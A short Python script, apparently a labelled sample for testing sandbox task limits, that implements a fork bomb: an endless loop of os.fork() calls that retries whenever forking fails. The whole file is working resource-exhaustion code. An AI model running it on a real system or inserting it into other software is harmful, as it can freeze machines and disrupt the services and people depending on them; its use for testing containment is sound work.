#!/usr/bin/env python3
"""Sample: a fork bomb, to show the task limit holds (harmless inside the sandbox).

Every process forks again and again; a failed fork (the limit) is retried after a short pause.
"""

# swarmguard-label: Malware

from __future__ import annotations

import os
import time


def main() -> None:
    """Fork forever."""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)


if __name__ == "__main__":
    main()
